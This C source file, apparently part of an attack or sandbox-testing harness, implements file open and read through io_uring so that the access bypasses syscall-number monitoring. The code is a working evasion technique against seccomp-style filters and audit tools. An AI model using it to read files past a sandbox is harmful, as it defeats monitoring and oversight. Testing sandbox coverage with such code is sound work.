/* SPDX-License-Identifier: Apache-2.0 */
/* open and pread through io_uring, which no system call's number gives away. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* One request at a time, so one entry each. */
struct ring {
	int fd;
	char *submissions, *completions;
	struct io_uring_sqe *entries;
	struct io_uring_params params;
};

static void *map(const struct ring *ring, size_t size, off_t what)
{
	return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd, what);
}

static int set_up(struct ring *ring)
{
	memset(&ring->params, 0, sizeof(ring->params));
	ring->fd = syscall(SYS_io_uring_setup, 1, &ring->params);
	if (ring->fd < 0)
		return -1;
	ring->submissions = map(ring, 4096, IORING_OFF_SQ_RING);
	ring->completions = map(ring, 4096, IORING_OFF_CQ_RING);
	ring->entries = map(ring, 4096, IORING_OFF_SQES);
	return ring->submissions == MAP_FAILED || ring->completions == MAP_FAILED ||
			       (void *)ring->entries == MAP_FAILED ?
		       -1 :
		       0;
}

static long submit(struct io_uring_sqe request)
{
	struct ring ring;
	uint32_t *tail, *array, *head;
	struct io_uring_cqe *answer;
	long result;

	if (set_up(&ring) < 0)
		return -1;
	tail = (uint32_t *)(ring.submissions + ring.params.sq_off.tail);
	array = (uint32_t *)(ring.submissions + ring.params.sq_off.array);
	ring.entries[0] = request;
	array[*tail & (ring.params.sq_entries - 1)] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	head = (uint32_t *)(ring.completions + ring.params.cq_off.head);
	answer = (struct io_uring_cqe *)(ring.completions + ring.params.cq_off.cqes);
	result = answer[*head & (ring.params.cq_entries - 1)].res;
	close(ring.fd);
	if (result >= 0)
		return result;
	errno = (int)-result;
	return -1;
}

int ring_open(const char *path, int flags)
{
	return (int)submit((struct io_uring_sqe){
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (uintptr_t)path,
		.open_flags = (uint32_t)flags,
	});
}

ssize_t ring_read(int fd, void *buffer, size_t size, off_t offset)
{
	return submit((struct io_uring_sqe){
		.opcode = IORING_OP_READ,
		.fd = fd,
		.addr = (uintptr_t)buffer,
		.len = (uint32_t)size,
		.off = (uint64_t)offset,
	});
}
